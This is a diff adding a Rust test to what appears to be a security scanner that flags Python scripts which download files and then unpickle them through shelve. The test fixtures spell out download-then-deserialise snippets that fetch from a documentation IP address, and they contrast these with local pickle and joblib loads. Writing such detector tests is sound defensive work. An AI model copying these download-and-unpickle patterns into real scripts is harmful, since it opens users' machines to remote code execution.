@@ -1642,3 +1642,26 @@ fn flows_that_cross_into_a_local_module_are_followed() {
     );
     assert!(found.is_empty(), "{found:?}");
 }
+
+#[test]
+fn pickles_a_script_downloads_are_code_it_runs() {
+    // A shelf unpickles each value it is asked for.
+    let shelf = "import shelve, urllib.request\nurllib.request.urlretrieve('https://203.0.113.5/db', 'cache.db')\nstore = shelve.open('cache.db')\nprint(store['schema'])\n";
+    assert!(has(&audit("scripts/a.py", shelf), Rule::DownloadExec));
+    let unnamed = "import dbm.dumb, shelve, urllib.request\ndef fetch(base):\n    with urllib.request.urlopen(URL) as r, open(target, 'wb') as out:\n        out.write(r.read())\nstore = shelve.Shelf(dbm.dumb.open(str(base), 'r'))\n";
+    let found = audit("scripts/b.py", unnamed);
+    assert!(
+        found.contains(&(Rule::DownloadExec, Severity::Medium)),
+        "{found:?}"
+    );
+    // The skill's own model, in a script that downloads nothing.
+    quiet(
+        "scripts/c.py",
+        "import joblib\nmodel = joblib.load('assets/model.joblib')\nprint(model.predict([[1, 2]]))\n",
+    );
+    let own = audit(
+        "scripts/d.py",
+        "import pickle\nwith open('assets/table.pkl', 'rb') as f:\n    table = pickle.load(f)\n",
+    );
+    assert!(own.is_empty(), "{own:?}");
+}
